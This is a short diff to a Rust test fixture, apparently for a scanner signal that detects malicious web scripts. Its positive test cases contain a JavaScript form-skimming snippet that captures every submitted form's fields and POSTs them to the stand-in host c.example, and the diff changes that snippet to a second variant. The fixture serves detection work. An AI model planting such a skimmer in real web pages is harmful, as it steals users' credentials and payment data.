@@ -15,7 +15,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
-            "document.addEventListener('submit',e=>{const d=Object.fromEntries(new FormData(e.target));fetch('http://c.example',{method:'POST',body:JSON.stringify(d)})})",
+            "document.addEventListener('submit',e=>{const d={};new FormData(e.target).forEach((v,k)=>{d[k]=v});fetch('http://c.example',{method:'POST',body:JSON.stringify(d)})})",
         ],
         without: &[
             "document.addEventListener('submit',e=>{const f=e.target;fetch(f.action,{method:'POST',body:new FormData(f)})})",
